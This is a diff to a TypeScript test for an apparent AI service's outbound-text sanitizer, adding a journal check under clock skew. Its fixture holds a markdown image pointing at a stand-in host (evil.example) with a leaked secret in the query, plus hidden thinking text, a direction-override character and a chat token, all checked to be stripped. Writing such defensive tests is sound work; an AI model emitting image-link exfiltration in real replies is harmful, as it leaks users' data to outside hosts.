@@ -1,5 +1,5 @@
 import { deliverySend } from '#libs/contracts';
-import { everyEntry } from '#libs/journal';
+import { everyEntry, latestEntries } from '#libs/journal';
 import { until } from '#libs/testing';
 import { type EngineWorld, engineWorld, turnOf } from '../../testing/engine-world.js';
 import { type Script, type FakeModel } from '../../testing/fake-model.js';
@@ -38,7 +38,8 @@ describe('the text of a model, on its way out', () => {
 
   it('loses hidden text and what could exfiltrate data, with notes, and says so', async () => {
     const written = '<think>The secret is tea.</think>Done\u202E![x](https://evil.example/?q=tea)<|im_end|>';
-    const { id, state, reply_text: text } = await answer([written]);
+    const turn = await answer([written]);
+    const { id, state, reply_text: text } = turn;
     const cleaned = '[thinking removed]Done[image removed: evil.example][removed-token]';
     expect([state, text]).toEqual(['succeeded', cleaned]);
     expect((await sent(id))?.content?.text).toBe(cleaned);
@@ -50,6 +51,12 @@ describe('the text of a model, on its way out', () => {
       return (await world.pool.query(sql, [id])).rows[0];
     });
     expect(entry.detail).toEqual({ taken, text: expect.stringContaining('removed before it was sent') });
+    // The clock of its process may be ahead of that of Postgres: the end is still the last.
+    await world.pool.query(`UPDATE journal.entry SET at = at + interval '1 second' WHERE subject_id = $1`, [id]);
+    const scope = { organizationId: turn.organization_id, projectId: turn.project_id };
+    const db = { query: async (sql: string, values?: unknown[]) => (await world.pool.query(sql, values)).rows };
+    const [last] = await latestEntries(db, scope, [turn.receipt_id]);
+    expect(last?.outcome).toBe('succeeded');
   });
 
   it('shows images of hosts that its Skills bind, and those that the message links, exactly as it links them', async () => {
